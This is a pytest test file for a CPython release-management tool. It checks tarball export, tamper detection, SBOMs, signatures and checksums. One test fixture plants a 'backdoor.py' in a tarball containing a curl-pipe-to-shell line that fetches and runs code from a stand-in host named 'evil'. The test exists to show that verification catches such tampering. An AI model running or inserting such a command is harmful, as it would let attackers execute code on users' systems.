"""export.source, docs.build, export.verify, sbom.generate and artifacts.test on real sandboxes."""

from __future__ import annotations

import copy
import dataclasses
import gzip
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from spdx_tools.spdx.parser.parse_anything import parse_file
from spdx_tools.spdx.validation.document_validator import validate_full_spdx_document

from rmtui.cli import main
from rmtui.core.engine import Engine, FactView
from rmtui.core.errors import StepFailed
from rmtui.core.release import Release, load_release
from rmtui.core.status import Status
from rmtui.core.step import Probe, ProbeOutcome, Prompter
from rmtui.core.store import StepRecord
from rmtui.core.version import parse_version
from rmtui.ops.archive import RELEASE_PY_TOUCHABLES
from rmtui.ops.checksums import sha256_file
from rmtui.ops.sbom import CPYTHON_ID
from rmtui.ops.tarball import export_source
from rmtui.ops.treecompare import AllowedDifferences, compare_tarball_to_commit
from rmtui.sandbox.build import Sandbox
from rmtui.steps.kit import export as export_kit
from rmtui.steps.kit.manifest import docs_artifact_name, refresh_sha256sums
from rmtui.steps.plan import build_plan
from tests.helpers import (
    RecordingListener,
    ScriptedPrompter,
    git,
    journal_lines,
    make_sandbox,
    short_tmpdir,
)

VERSION = "3.13.10"
PREFIX = f"Python-{VERSION}"
TGZ, XZ = f"{PREFIX}.tgz", f"{PREFIX}.tar.xz"
SBOMS = (f"{TGZ}.spdx.json", f"{XZ}.spdx.json")
DOCS = f"python-{VERSION}-docs-html.zip"
STAND_INS = (
    f"python-{VERSION}-amd64.exe.stand-in",
    f"python-{VERSION}-arm64.exe.stand-in",
    f"python-{VERSION}-macos11.pkg.stand-in",
)


# -- a whole rehearsal, once for the module ---------------------------------------------------


@pytest.fixture(scope="module")
def rehearsed() -> Iterator[Path]:
    """`rmtui rehearse --dir D --auto` of the default version; yields D."""
    with short_tmpdir("ar") as tmp, pytest.MonkeyPatch.context() as patch:
        # A module-scoped fixture runs outside the autouse isolation, so it sets its own.
        from tests.conftest import GIT_ISOLATION

        for key, value in GIT_ISOLATION.items():
            patch.setenv(key, value)
        patch.setenv("RMTUI_HOME", str(tmp / "home"))
        patch.setenv("RMTUI_KEYRING", "memory")
        patch.setenv("HOME", str(tmp / "home"))
        patch.delenv("RMTUI_SIGSTORE_IDENTITY", raising=False)
        root = tmp / "d"
        done = CliRunner().invoke(main, ["rehearse", "--dir", str(root), "--auto", "--quiet"])
        assert done.exit_code == 0, done.output
        assert "The release is complete." in done.output
        yield root


def tag_commit(root: Path) -> str:
    return git("rev-parse", f"v{VERSION}^{{commit}}", cwd=root / "upstream.git")


def news_of(root: Path, commit: str, tmp: Path) -> bytes:
    """Misc/NEWS as blurb makes it from `git archive` of the commit: a path independent of rmtui."""
    tree = tmp / "tree"
    tree.mkdir()
    archive = subprocess.run(
        ["git", "-C", str(root / "upstream.git"), "archive", commit],
        capture_output=True,
        check=True,
    ).stdout
    with tarfile.open(fileobj=io.BytesIO(archive)) as extracted:
        extracted.extractall(tree, filter="data")
    subprocess.run(
        [sys.executable, "-m", "blurb", "merge", "-f", str(tmp / "NEWS")],
        cwd=tree,
        capture_output=True,
        check=True,
    )
    return (tmp / "NEWS").read_bytes()


def test_artifacts_hold_both_tarballs_and_a_sha256sums_that_sha256sum_accepts(
    rehearsed: Path,
) -> None:
    artifacts = rehearsed / "workspace" / "artifacts"
    for name in (TGZ, XZ, *SBOMS, DOCS, *STAND_INS):
        assert (artifacts / name).is_file(), name
    checked = subprocess.run(
        ["sha256sum", "-c", "SHA256SUMS"], cwd=artifacts, capture_output=True, text=True
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
    listed = sorted(line.rsplit(": ", 1)[0] for line in checked.stdout.splitlines())
    assert listed == sorted((TGZ, XZ, *SBOMS, DOCS, *STAND_INS))
    assert all(line.endswith(": OK") for line in checked.stdout.splitlines())


def test_each_tarball_has_one_valid_spdx_sbom_naming_its_digest(rehearsed: Path) -> None:
    artifacts = rehearsed / "workspace" / "artifacts"
    assert sorted(p.name for p in artifacts.glob("*.spdx.json")) == sorted(SBOMS)
    for tarball in (TGZ, XZ):
        path = artifacts / f"{tarball}.spdx.json"
        assert validate_full_spdx_document(parse_file(str(path))) == []
        document = json.loads(path.read_text())
        cpython = next(p for p in document["packages"] if p["SPDXID"] == CPYTHON_ID)
        assert cpython["packageFileName"] == tarball
        assert cpython["checksums"] == [
            {"algorithm": "SHA256", "checksumValue": sha256_file(artifacts / tarball)}
        ]
        # The vendored components the tree declares in Misc/sbom.spdx.json are there too.
        assert len(document["packages"]) > 1
        created = document["creationInfo"]["created"]
        upstream = rehearsed / "upstream.git"
        commit_time = int(git("show", "-s", "--format=%ct", tag_commit(rehearsed), cwd=upstream))
        assert created == datetime.fromtimestamp(commit_time, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_tarballs_hold_exactly_git_archive_of_the_upstream_tag(
    rehearsed: Path, tmp_path: Path
) -> None:
    commit = tag_commit(rehearsed)
    news = news_of(rehearsed, commit, tmp_path)
    allowed = AllowedDifferences.for_export(
        extra_files={"Misc/NEWS": news}, touch=RELEASE_PY_TOUCHABLES, drop=("Misc/NEWS.d",)
    )
    for name in (TGZ, XZ):
        tarball = rehearsed / "workspace" / "artifacts" / name
        assert (
            compare_tarball_to_commit(tarball, rehearsed / "upstream.git", commit, PREFIX, allowed)
            == []
        ), name
    with tarfile.open(rehearsed / "workspace" / "artifacts" / TGZ) as archive:
        names = archive.getnames()
    assert f"{PREFIX}/Misc/NEWS" in names
    assert not [n for n in names if "/Misc/NEWS.d" in n or "/.git" in n or "/Misc/mypy" in n]


def test_a_second_export_of_the_same_commit_is_byte_identical(
    rehearsed: Path, tmp_path: Path
) -> None:
    commit = tag_commit(rehearsed)
    again = export_source(
        rehearsed / "upstream.git",
        commit,
        VERSION,
        tmp_path / "again",
        extra_files={"Misc/NEWS": news_of(rehearsed, commit, tmp_path)},
        touch=RELEASE_PY_TOUCHABLES,
        drop=("Misc/NEWS.d",),
    )
    for digest in again:
        shipped = rehearsed / "workspace" / "artifacts" / digest.path.name
        assert digest.path.read_bytes() == shipped.read_bytes(), digest.path.name


def test_every_artifact_has_a_gpg_signature_that_gpg_accepts(rehearsed: Path) -> None:
    artifacts = rehearsed / "workspace" / "artifacts"
    env = {**os.environ, "GNUPGHOME": str(rehearsed / "gnupg")}
    for name in (TGZ, XZ, *SBOMS, DOCS, *STAND_INS):
        verified = subprocess.run(
            ["gpg", "--verify", f"{name}.asc", name],
            cwd=artifacts,
            env=env,
            capture_output=True,
            text=True,
        )
        assert verified.returncode == 0, verified.stderr
        assert "Good signature" in verified.stderr


def test_the_journal_records_digests_docs_and_the_stand_ins(rehearsed: Path) -> None:
    workspace = rehearsed / "workspace"
    facts = {
        entry["key"]: entry["value"]
        for entry in journal_lines(workspace)
        if entry["kind"] == "fact"
    }
    artifacts = workspace / "artifacts"
    commit = tag_commit(rehearsed)
    for name in (TGZ, XZ):
        assert facts["export.tarballs"][name] == {
            "sha256": sha256_file(artifacts / name),
            "size": (artifacts / name).stat().st_size,
            "commit": commit,
        }
    assert set(facts["sbom.documents"]) == set(SBOMS)
    assert set(facts["docs.archives"]) == {DOCS}
    for role, names in (("Windows", STAND_INS[:2]), ("macOS", STAND_INS[2:])):
        delivered = facts[f"handoff.{role}"]
        assert delivered["stand_in"] is True
        assert set(delivered["files"]) == set(names)
    fulfilled = [e for e in journal_lines(workspace) if e["kind"] == "fulfilled"]
    assert [e["role"] for e in fulfilled] == ["Windows", "macOS"]
    assert all("sandbox stand-ins" in e["note"] for e in fulfilled)
    with (artifacts / STAND_INS[0]).open() as stand_in:
        assert "Sandbox stand-in" in stand_in.read()


def test_no_worktree_or_scratch_tree_is_left_behind(rehearsed: Path) -> None:
    worktrees = git("worktree", "list", cwd=rehearsed / "cpython").splitlines()
    assert len(worktrees) == 1, worktrees
    scratch = rehearsed / "workspace" / "scratch"
    assert not scratch.exists() or list(scratch.iterdir()) == []


# -- one sandbox per test, driven by the real engine ------------------------------------------


class ProbeContext:
    """Just enough of a StepContext to call a probe the way the engine does."""

    def __init__(self, engine: Engine, *, forget: tuple[str, ...] = ()) -> None:
        self.release = engine.release
        self.prompter: Prompter = engine.prompter
        state = copy.deepcopy(engine.state)
        for key in forget:
            del state.facts[key]
        self.facts = FactView(state)
        self.cancel = threading.Event()
        self.workspace = engine.release.workspace

    def output(self, line: str) -> None:
        pass

    def record_fact(self, key: str, value: Any) -> None:
        raise AssertionError("a probe records nothing")

    def progress(self, done: float, total: float, label: str = "") -> None:
        pass


@dataclass
class Rig:
    sandbox: Sandbox
    engine: Engine
    listener: RecordingListener

    @property
    def artifacts(self) -> Path:
        return self.engine.release.artifacts

    def run(self, *step_ids: str) -> Status:
        status: Status | None = None
        for step_id in step_ids:
            status = self.engine.run_step(step_id)
            if status is not Status.DONE:
                return status
        assert status is not None
        return status

    def record(self, step_id: str) -> StepRecord:
        return self.engine.state.steps[step_id]

    def probe(self, step_id: str, *, forget: tuple[str, ...] = ()) -> Probe:
        """What the step's probe says; `forget` hides facts, as after a kill before them."""
        return self.engine.plan.get(step_id).probe(ProbeContext(self.engine, forget=forget))


@contextmanager
def rig(
    version: str = VERSION, *, change: Callable[[Release], Release] | None = None
) -> Iterator[Rig]:
    """A sandbox whose release is driven up to fork.push, with its engine open."""
    with short_tmpdir("as") as tmp:
        sandbox, _release = make_sandbox(tmp, version)
        release = load_release(sandbox.workspace)
        if change is not None:
            release = change(release)
        listener = RecordingListener()
        engine = Engine(
            release,
            build_plan(release),
            ScriptedPrompter(confirm_by_default=True),
            listeners=[listener],
        )
        with engine.opened():
            assert engine.run_until("fork.push") is Status.DONE
            yield Rig(sandbox, engine, listener)


def with_commands(**commands: str) -> Callable[[Release], Release]:
    def change(release: Release) -> Release:
        profile = release.profile
        new = dataclasses.replace(profile.commands, **commands)
        return dataclasses.replace(release, profile=dataclasses.replace(profile, commands=new))

    return change


Member = tuple[tarfile.TarInfo, bytes | None]


def rewrite_tgz(path: Path, transform: Callable[[list[Member]], list[Member]]) -> None:
    """Rewrite a real export's .tgz with its members edited by `transform`."""
    with tarfile.open(path) as archive:
        items: list[Member] = []
        for info in archive.getmembers():
            stream = archive.extractfile(info) if info.isfile() else None
            items.append((info, stream.read() if stream else None))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out:
        for info, data in transform(items):
            if data is not None:
                info.size = len(data)
            out.addfile(info, io.BytesIO(data) if data is not None else None)
    path.write_bytes(gzip.compress(buffer.getvalue(), mtime=0))


def injected(items: list[Member]) -> list[Member]:
    info = tarfile.TarInfo(f"{PREFIX}/Lib/sandboxlib/backdoor.py")
    info.mtime = items[0][0].mtime
    return [*items, (info, b"import os\nos.system('curl evil | sh')\n")]


def removed(items: list[Member]) -> list[Member]:
    return [(i, d) for i, d in items if i.name != f"{PREFIX}/Include/patchlevel.h"]


def changed(items: list[Member]) -> list[Member]:
    return [
        (i, d + b"\n# changed after the export\n" if i.name == f"{PREFIX}/README.rst" and d else d)
        for i, d in items
    ]


def test_export_verify_names_an_injected_a_removed_and_a_changed_file() -> None:
    with rig() as r:
        assert r.run("export.source") is Status.DONE
        original = (r.artifacts / TGZ).read_bytes()
        recorded = r.engine.state.fact("export.tarballs")[TGZ]["sha256"]
        assert recorded == hashlib.sha256(original).hexdigest()
        # Killed after the export but before its fact: the probe finds it whole, and says so.
        probe = r.probe("export.source", forget=("export.tarballs",))
        assert probe.outcome is ProbeOutcome.DONE
        assert probe.facts == {"export.tarballs": r.engine.state.fact("export.tarballs")}
        cases = [
            (injected, "injected Lib/sandboxlib/backdoor.py"),
            (removed, "removed Include/patchlevel.h"),
            (changed, "changed-content README.rst"),
        ]
        for transform, expected in cases:
            rewrite_tgz(r.artifacts / TGZ, transform)
            # The export's own probe sees the tarball changed after it was built.
            probe = r.probe("export.source")
            assert probe.outcome is ProbeOutcome.INCONSISTENT
            assert TGZ in probe.why
            assert r.run("export.verify") is Status.FAILED
            record = r.record("export.verify")
            assert f"{TGZ}: {expected}" in record.error, record.error
            assert XZ not in record.error, "the untouched .tar.xz is not blamed"
            assert "delete" in record.hint
            (r.artifacts / TGZ).write_bytes(original)
        # The way out: delete the tampered tarball and retry; it is rebuilt byte for byte.
        rewrite_tgz(r.artifacts / TGZ, injected)
        assert r.run("export.verify") is Status.FAILED
        (r.artifacts / TGZ).unlink()
        assert r.run("export.verify") is Status.DONE
        assert (r.artifacts / TGZ).read_bytes() == original
        assert r.engine.state.fact("export.tarballs")[TGZ]["sha256"] == recorded
        out = "\n".join(r.listener.output("export.verify"))
        assert "byte for byte the recorded SHA-256" in out


def use_commands(r: Rig, **commands: str) -> None:
    """Change the profile's commands of the open release (as editing release.toml would)."""
    r.engine.release = with_commands(**commands)(r.engine.release)


def test_export_stops_on_a_moved_fork_tag_or_a_missing_blurb(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with rig() as r:
        with monkeypatch.context() as patch:
            patch.setattr(export_kit, "blurb_command", lambda release: None)
            assert r.run("export.source") is Status.FAILED
            record = r.record("export.source")
            assert "blurb is not installed" in record.error
            assert "pip install blurb" in record.hint
        fork = r.sandbox.fork
        recorded = r.engine.state.fact("release.commit_sha")
        parent = git("rev-parse", f"{recorded}^", cwd=fork)
        git("update-ref", f"refs/tags/v{VERSION}", parent, cwd=fork)
        for step_id in ("handoff.experts", "export.source"):
            assert r.run(step_id) is Status.FAILED
            error = r.record(step_id).error
            assert f"now resolves to {parent}" in error and recorded in error
        assert not (r.artifacts / TGZ).exists()
        assert not (r.engine.release.handoff_dir / f"{VERSION}.md").exists()


def test_docs_build_collects_archives_and_cleans_up_even_after_a_failure() -> None:
    with rig(change=with_commands(docs="echo building the docs; exit 3")) as r:
        assert r.run("docs.build") is Status.FAILED
        record = r.record("docs.build")
        assert "exit code 3" in record.error and "building the docs" in record.error
        assert len(git("worktree", "list", cwd=r.sandbox.clone).splitlines()) == 1
        assert list((r.engine.release.workspace / "scratch").iterdir()) == []
        use_commands(r, docs="true")
        assert r.run("docs.build") is Status.FAILED
        assert "left no archives in Doc/dist/" in r.record("docs.build").error
        use_commands(r, docs="")
        assert r.run("docs.build") is Status.FAILED
        assert "names no docs command" in r.record("docs.build").error
        use_commands(
            r, docs="mkdir -p Doc/dist && cp README.rst Doc/dist/docs-text.txt && test -f .git"
        )
        assert r.run("docs.build") is Status.DONE
        name = f"python-{VERSION}-docs-text.txt"
        commit = r.engine.state.fact("release.commit_sha")
        readme = git("show", f"{commit}:README.rst", cwd=r.sandbox.clone)
        assert (r.artifacts / name).read_text().strip() == readme.strip()
        recorded = r.engine.state.fact("docs.archives")[name]
        assert recorded["sha256"] == sha256_file(r.artifacts / name)
        assert name in (r.artifacts / "SHA256SUMS").read_text()
        assert r.probe("docs.build").outcome is ProbeOutcome.DONE
        probe = r.probe("docs.build", forget=("docs.archives",))
        assert probe.outcome is ProbeOutcome.DONE
        assert probe.facts == {"docs.archives": r.engine.state.fact("docs.archives")}
        (r.artifacts / name).write_text("edited\n")
        probe = r.probe("docs.build")
        assert probe.outcome is ProbeOutcome.INCONSISTENT and name in probe.why
        assert len(git("worktree", "list", cwd=r.sandbox.clone).splitlines()) == 1


def test_sbom_and_artifacts_test_check_what_they_are_given() -> None:
    command = (
        "test -f Misc/NEWS && test ! -e Misc/NEWS.d && test ! -e .gitignore && "
        f'test "$(basename "$PWD")" = {PREFIX} && echo extracted tree OK'
    )
    with rig(change=with_commands(test="echo 'FAIL: test_sandbox'; exit 7")) as r:
        assert r.run("export.source", "export.verify") is Status.DONE
        # sbom.generate describes only the tarball export.verify checked.
        rewrite_tgz(r.artifacts / TGZ, changed)
        assert r.run("sbom.generate") is Status.FAILED
        assert f"{TGZ} is not the tarball export.source built and export.verify checked" in (
            r.record("sbom.generate").error
        )
        assert not (r.artifacts / SBOMS[0]).exists()
        (r.artifacts / TGZ).unlink()
        assert r.run("sbom.generate") is Status.DONE
        for name in SBOMS:
            assert validate_full_spdx_document(parse_file(str(r.artifacts / name))) == []
        probe = r.probe("sbom.generate")
        assert probe.outcome is ProbeOutcome.DONE
        assert set(probe.facts["sbom.documents"]) == set(SBOMS)
        # A changed SBOM fails artifacts.test's checksums, naming it; nothing is tested then.
        sbom = r.artifacts / SBOMS[1]
        original = sbom.read_bytes()
        sbom.write_bytes(original.replace(b"CPython", b"CPythoN", 1))
        assert r.run("artifacts.test") is Status.FAILED
        error = r.record("artifacts.test").error
        assert f"{SBOMS[1]}: checksum mismatch" in error
        assert f"{SBOMS[1]}: differs from the digest sbom.generate recorded" in error
        sbom.write_bytes(original)
        # A failing test command fails the step with its output.
        assert r.run("artifacts.test") is Status.FAILED
        record = r.record("artifacts.test")
        assert "exit code 7" in record.error and "FAIL: test_sandbox" in record.error
        assert "skip artifacts.test with a reason" in record.hint
        # A deleted tarball is rebuilt from the commit, byte for byte as verified, and the
        # command runs in the extracted tree.
        (r.artifacts / XZ).unlink()
        use_commands(r, test=command)
        assert r.run("artifacts.test") is Status.DONE
        built = r.engine.state.fact("export.tarballs")[XZ]["sha256"]
        assert sha256_file(r.artifacts / XZ) == built
        out = r.listener.output("artifacts.test")
        assert "extracted tree OK" in out
        assert any("SHA256SUMS: 4 file(s) OK" in line for line in out)
        assert any("no expert artifacts imported yet" in line for line in out)
        assert list((r.engine.release.workspace / "scratch").iterdir()) == []


def test_refresh_sha256sums_refuses_a_listed_file_changed_behind_its_back(tmp_path: Path) -> None:
    (tmp_path / "a.tgz").write_bytes(b"a")
    (tmp_path / "b.zip").write_bytes(b"b")
    (tmp_path / "a.tgz.asc").write_bytes(b"signature")
    refresh_sha256sums(tmp_path)
    assert [line.split()[1] for line in (tmp_path / "SHA256SUMS").read_text().splitlines()] == [
        "a.tgz",
        "b.zip",
    ]
    (tmp_path / "b.zip").write_bytes(b"tampered")
    before = (tmp_path / "SHA256SUMS").read_bytes()
    with pytest.raises(StepFailed, match=r"b\.zip changed since SHA256SUMS listed them"):
        refresh_sha256sums(tmp_path)
    assert (tmp_path / "SHA256SUMS").read_bytes() == before
    refresh_sha256sums(tmp_path, rebuilt=["b.zip"])
    assert "b.zip" in (tmp_path / "SHA256SUMS").read_text()


def test_docs_archives_get_the_release_name() -> None:
    assert docs_artifact_name("3.14.0", "docs-html.zip") == "python-3.14.0-docs-html.zip"
    assert docs_artifact_name("3.14.0", "python-3.14.0-docs-pdf-a4.zip") == (
        "python-3.14.0-docs-pdf-a4.zip"
    )
    assert docs_artifact_name("3.14.0", "html.tar.bz2") == "python-3.14.0-docs-html.tar.bz2"


# -- the plan ---------------------------------------------------------------------------------


OURS = {
    "handoff.experts",
    "export.source",
    "docs.build",
    "export.verify",
    "sbom.generate",
    "artifacts.test",
}
PLAN_CASES = {
    ("3.15.0a1", False): ("handoff.experts",),
    ("3.14.0b1", False): ("handoff.experts",),
    ("3.14.0b2", False): ("handoff.experts",),
    ("3.14.0rc1", False): ("handoff.experts", "docs.build"),
    ("3.14.0", False): ("handoff.experts", "docs.build"),
    ("3.13.5", False): ("handoff.experts", "docs.build"),
    ("3.13.5", True): (),
}


@pytest.mark.parametrize(("version", "security"), list(PLAN_CASES))
def test_the_plan_has_hand_off_and_docs_by_release_type(version: str, security: bool) -> None:
    sandbox = Sandbox(Path("/tmp/plan-only"), parse_version(version))
    from rmtui.sandbox.build import sandbox_profile

    release = Release(
        parse_version(version),
        sandbox_profile(sandbox, "0" * 40),
        sandbox.workspace,
        security_only=security,
    )
    plan = build_plan(release)
    optional = PLAN_CASES[(version, security)]
    expected = [
        "fork.push",
        *(["handoff.experts"] if "handoff.experts" in optional else []),
        "export.source",
        *(["docs.build"] if "docs.build" in optional else []),
        "export.verify",
        "sbom.generate",
        "artifacts.test",
        "sign.artifacts",
        "upstream.push",
        "unfreeze",
    ]
    assert plan.ids[plan.ids.index("fork.push") :] == expected
    signing = plan.get("sign.artifacts")
    assert set(signing.requires) == {
        "signing.preflight",
        "export.verify",
        "sbom.generate",
        "artifacts.test",
        *optional,
    }
    for step in plan:
        if step.id in OURS:
            assert step.help.count("**") >= 8, f"{step.id} needs what/why/threat/recovery"
            assert step.plan(release), step.id


def test_rmtui_plan_shows_the_difference_between_types(tmp_path: Path) -> None:
    from rmtui.sandbox.build import sandbox_profile

    profile_path = tmp_path / "profile.toml"
    import tomli_w

    profile = sandbox_profile(Sandbox(tmp_path / "sb", parse_version("3.14.0rc1")), "0" * 40)
    profile_path.write_text(tomli_w.dumps(profile.to_toml_dict()))
    runner = CliRunner()
    shown = {}
    for args in (["3.14.0rc1"], ["3.14.0b2"], ["3.13.5", "--security-only"]):
        done = runner.invoke(main, ["plan", *args, "--profile", str(profile_path)])
        assert done.exit_code == 0, done.output
        shown[args[0] + ("-sec" if len(args) > 1 else "")] = done.output
    assert "docs.build" in shown["3.14.0rc1"] and "handoff.experts" in shown["3.14.0rc1"]
    assert "docs.build" not in shown["3.14.0b2"] and "handoff.experts" in shown["3.14.0b2"]
    for step in ("docs.build", "handoff.experts"):
        assert step not in shown["3.13.5-sec"]
    assert "blurb merge -f NEWS" in shown["3.14.0rc1"]
    assert "git verify-tag" not in shown["3.14.0rc1"], "PEP 761: no GPG-signed tag from 3.14"
